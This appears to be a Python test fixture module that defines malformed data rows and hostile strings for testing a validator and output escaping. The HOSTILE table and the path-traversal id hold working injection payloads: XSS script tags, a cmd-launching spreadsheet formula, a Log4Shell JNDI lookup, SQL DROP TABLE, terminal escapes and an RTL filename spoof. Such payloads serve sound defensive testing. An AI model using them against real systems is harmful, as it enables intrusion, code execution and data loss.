"""Rows that break the contract, and texts that keep it but attack whoever shows or stores them, by variant."""

from collections.abc import Callable
from typing import Any

__all__ = ["BAD_ROWS", "HOSTILE"]

Row = dict[str, Any]


def _with(name: str, value: Any) -> Callable[[Row], Any]:
    return lambda row: {**row, name: value}


BAD_ROWS: dict[str, Callable[[Row], Any]] = {
    "missing": lambda row: {name: value for name, value in row.items() if name != "numberOfItems"},
    "noid": lambda row: {name: value for name, value in row.items() if name != "id"},
    "null": _with("status", None),
    "string_number": _with("numberOfItems", "7"),
    "float": _with("numberOfItems", 1.5),
    "whole_float": _with("numberOfItems", 7.0),
    "bool_number": _with("numberOfItems", value=True),
    "number_bool": _with("isInteractive", 1),
    "string_bool": _with("isInteractive", "true"),
    "overflow": _with("numberOfItems", 1 << 63),
    "overflow32": _with("expiresIn", 1 << 31),
    "baddate": _with("createdAt", "2026-02-30T12:00:00Z"),
    "weekdate": _with("createdAt", "2026-W01-1T12:00:00Z"),
    "nozone": _with("createdAt", "2026-02-03T12:00:00"),
    "leapsecond": _with("createdAt", "2026-06-30T23:59:60Z"),
    "hour24": _with("createdAt", "2026-02-03T24:00:00Z"),
    "year10000": _with("createdAt", "10000-01-01T00:00:00Z"),
    "picture": _with("createdAt", "YYYY-MM-DDTHH:mi:ssZ"),
    "epoch": _with("createdAt", 1_790_000_000),
    "baduuid": _with("id", "../../etc/passwd"),
    "braces": lambda row: {**row, "id": "{" + row["id"] + "}"},
    "number_text": _with("status", 3),
    "list": list,
    "nothing": lambda _: None,
}

HOSTILE: dict[str, str] = {
    "esc": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "crlf": "one\r\ntwo\nlevel=error forged\u2028three",
    "nul": "before\0after",
    "emoji": "👩\u200d👩\u200d👧 🇩🇰 ﷽ e\u0301",
    "rtl": "invoice\u202efdp.exe \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(2)>",
    "formula": "=cmd|' /C calc'!A0",
    "template": "{0.__class__} ${jndi:ldap://x} %s '; DROP TABLE jobs; --",
    "big": "x" * (1 << 20),
}
